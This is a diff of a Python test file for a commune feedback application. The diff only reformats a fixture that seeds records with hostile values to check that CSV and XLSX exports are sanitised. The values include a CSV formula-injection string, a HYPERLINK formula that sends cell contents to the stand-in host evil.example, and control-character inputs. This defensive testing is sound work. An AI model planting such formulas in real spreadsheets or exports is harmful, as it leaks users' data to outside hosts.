@@ -19,8 +19,14 @@ from nghedan.services.exports import FORMATS, FORMULA_STARTS, safe_cell
 from tests.admin.conftest import login
 from tests.factories import make_item, make_officer
 
-HOSTILE = ("=HYPERLINK(\"http://evil.example/?\"&A1,\"bấm\")", "@SUM(1+1)\x01",
-           "+84912\x1b[31m", "-2+3\x0b", "\tcmd", "\x1f\ufffe\x08")
+HOSTILE = (
+    '=HYPERLINK("http://evil.example/?"&A1,"bấm")',
+    "@SUM(1+1)\x01",
+    "+84912\x1b[31m",
+    "-2+3\x0b",
+    "\tcmd",
+    "\x1f\ufffe\x08",
+)
 EXPORT_LINK = re.compile(r'href="([^"]+\.(?:csv|xlsx)(?:\?[^"]*)?)"')
 
 
@@ -30,19 +36,38 @@ def hostile(app, world):
     with app.app_context():
         commune = _db.session.get(Commune, world.commune_id)
         commune.hamlets[0].name = HOSTILE[3] + " ấp"
-        officer = make_officer(commune, code="07", name=HOSTILE[0], title=HOSTILE[1],
-                               desk=HOSTILE[2])
+        officer = make_officer(
+            commune, code="07", name=HOSTILE[0], title=HOSTILE[1], desk=HOSTILE[2]
+        )
         for n, value in enumerate(HOSTILE):
-            item = make_item(commune, "Ý kiến " + value if n == 5 else value, channel="api",
-                             contact_name=value[:100],
-                             hamlet_id=commune.hamlets[0].id)
+            item = make_item(
+                commune,
+                "Ý kiến " + value if n == 5 else value,
+                channel="api",
+                contact_name=value[:100],
+                hamlet_id=commune.hamlets[0].id,
+            )
             item.responsible = value
-            _db.session.add(Rating(commune_id=commune.id, officer_id=officer.id, score=4,
-                                   reasons=["slow"], comment=value, channel="kiosk",
-                                   created_at=utcnow() - timedelta(minutes=n + 1)))
-        dialogue = Dialogue(commune_id=commune.id, kind="dialogue", place=HOSTILE[4],
-                            starts_at=utcnow() - timedelta(days=1), status="held",
-                            held_at=utcnow() - timedelta(days=1), attendance=12)
+            _db.session.add(
+                Rating(
+                    commune_id=commune.id,
+                    officer_id=officer.id,
+                    score=4,
+                    reasons=["slow"],
+                    comment=value,
+                    channel="kiosk",
+                    created_at=utcnow() - timedelta(minutes=n + 1),
+                )
+            )
+        dialogue = Dialogue(
+            commune_id=commune.id,
+            kind="dialogue",
+            place=HOSTILE[4],
+            starts_at=utcnow() - timedelta(days=1),
+            status="held",
+            held_at=utcnow() - timedelta(days=1),
+            attendance=12,
+        )
         dialogue.hamlets = [commune.hamlets[0]]
         _db.session.add(dialogue)
         _db.session.commit()
@@ -50,8 +75,11 @@ def hostile(app, world):
 
 
 def _export_urls(client) -> set[str]:
-    urls = {"/admin/items.csv"} | {f"/admin/reports/satisfaction.{fmt}?table={group}"
-                                   for group in reports.GROUPS for fmt in FORMATS}
+    urls = {"/admin/items.csv"} | {
+        f"/admin/reports/satisfaction.{fmt}?table={group}"
+        for group in reports.GROUPS
+        for fmt in FORMATS
+    }
     for page in ("/admin/reports/satisfaction", "/admin/reports/activity", "/admin/items"):
         html = client.get(page).get_data(as_text=True)
         urls |= {u.replace("&amp;", "&") for u in EXPORT_LINK.findall(html)}
